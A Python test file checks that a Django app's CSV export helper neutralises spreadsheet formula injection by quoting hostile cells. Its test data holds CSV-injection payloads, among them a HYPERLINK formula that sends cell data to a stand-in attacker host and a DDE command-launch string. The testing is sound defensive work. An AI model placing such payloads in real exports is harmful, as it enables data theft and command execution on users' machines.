"""CSV exports quote every cell a spreadsheet would run as a formula (OWASP CSV injection):
one helper, hrdcase.csv, used by the logbook briefing and the dashboards' chart exports."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboards.figures import Figure
from dashboards.services import figure_export_csv
from hrdcase import csv as safe_csv
from hrdcase.csv import FORMULA_PREFIXES, safe_cell
from hrdcase.models import AuditEvent

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_quotes_a_cell_that_would_start_a_formula(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Embassy A", "", "1 April", "'=already quoted", "a=b"])
def test_it_leaves_other_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-1, 0, 3.5, Decimal("-2.25")])
def test_numbers_stay_numbers(value):
    # A number cannot carry a formula; quoting -1 would turn it into text in the sheet.
    assert safe_cell(value) == value
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def _roundtrip(row: list) -> list[str]:
    out = io.StringIO()
    safe_csv.writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_and_nothing_is_lost(row):
    cells = _roundtrip(row)
    assert len(cells) == len(row)
    for written, original in zip(cells, row, strict=True):
        assert not written.startswith(FORMULA_PREFIXES)
        assert written in (original, "'" + original)


@pytest.mark.django_db
def test_the_dashboard_chart_export_quotes_hostile_labels_and_titles(officer):
    figure = Figure.own(
        "own_status",
        "=cmd|' /C calc'!A0",
        ["-Cases", "@Open"],
        [(label, [1, 2]) for label in HOSTILE],
    )
    body = figure_export_csv(
        figure=figure, period=None, scope=officer.organisation, acting_user=officer
    )
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][1:] == ["'-Cases", "'@Open"]
    assert [row[0] for row in rows[2:-1]] == ["'" + label for label in HOSTILE]
    assert all(not cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)
    assert AuditEvent.objects.filter(action="dashboard.export").exists()
